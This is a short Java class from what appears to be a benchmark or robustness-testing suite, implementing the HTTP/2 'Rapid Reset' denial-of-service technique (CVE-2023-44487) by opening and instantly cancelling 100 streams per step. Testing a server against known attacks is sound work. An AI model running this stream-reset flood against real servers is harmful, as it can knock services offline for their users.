package dev.graft.benchmarks.attacks.kind;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Random;

/** Begins calls and resets them at once (CVE-2023-44487). */
final class RapidResets extends RawAttack {
  private static final int CANCEL = 8;
  private static final int AT_ONCE = 100;

  RapidResets(Target target) {
    super(target, 8);
  }

  @Override
  void step(RawConnection connection, Random random) throws IOException {
    for (int i = 0; i < AT_ONCE; i++) {
      int stream = connection.call(Requests.EXECUTE, "authorization", "Bearer " + target().token());
      connection.frame(
          RawConnection.RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
    }
    connection.flush();
  }
}
